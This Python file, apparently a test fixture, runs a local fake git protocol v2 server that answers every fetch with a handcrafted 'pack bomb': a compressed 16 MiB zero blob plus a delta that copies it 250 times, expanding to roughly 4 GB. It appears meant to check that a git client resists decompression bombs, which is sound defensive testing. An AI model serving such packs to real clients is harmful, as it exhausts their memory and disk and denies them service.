"""A server that no git is: it speaks just enough of protocol v2 to send a pack of its own making."""

import hashlib
import struct
import threading
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Self

BASE_BYTES = 16 << 20
COPIES = 250


def _line(data: bytes) -> bytes:
    return f"{len(data) + 4:04x}".encode() + data


def _header(kind: int, size: int) -> bytes:
    first, size = (kind << 4) | (size & 15), size >> 4
    parts = []
    while size:
        parts.append(first | 0x80)
        first, size = size & 0x7F, size >> 7
    return bytes([*parts, first])


def _size(value: int) -> bytes:
    parts = []
    while value >= 0x80:
        parts.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*parts, value])


def _bomb() -> bytes:
    """A blob of zeros, and a delta that copies it again and again."""
    base = b"\0" * BASE_BYTES
    first = _header(3, len(base)) + zlib.compress(base, 9)
    copy = b"\xf0" + struct.pack("<I", BASE_BYTES - 1)[:3]  # size in three bytes, offset 0
    delta = _size(len(base)) + _size((BASE_BYTES - 1) * COPIES) + copy * COPIES
    back = len(first)
    offset = [back & 0x7F]
    while back := back >> 7:
        back -= 1
        offset.insert(0, 0x80 | (back & 0x7F))
    second = _header(6, len(delta)) + bytes(offset) + zlib.compress(delta, 9)
    pack = b"PACK" + struct.pack(">II", 2, 2) + first + second
    return pack + hashlib.sha1(pack, usedforsecurity=False).digest()


class BombServer:
    """Answers every fetch with the same pack; `packs_sent` counts."""

    def __init__(self) -> None:
        self.packs_sent = 0
        outer = self
        pack = _bomb()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                lines = [b"version 2\n", b"ls-refs\n", b"fetch=shallow\n", b"object-format=sha1\n"]
                self._say("application/x-git-upload-pack-advertisement", b"".join(map(_line, lines)) + b"0000")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                if b"command=ls-refs" in body:
                    answer = _line(b"12" * 20 + b" refs/heads/main\n") + b"0000"
                else:
                    outer.packs_sent += 1
                    parts = [_line(b"\x01" + pack[at : at + 60_000]) for at in range(0, len(pack), 60_000)]
                    answer = _line(b"packfile\n") + b"".join(parts) + b"0000"
                self._say("application/x-git-upload-pack-result", answer)

            def _say(self, kind: str, content: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *arguments: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/owner/bomb.git"
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *raised: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(5)
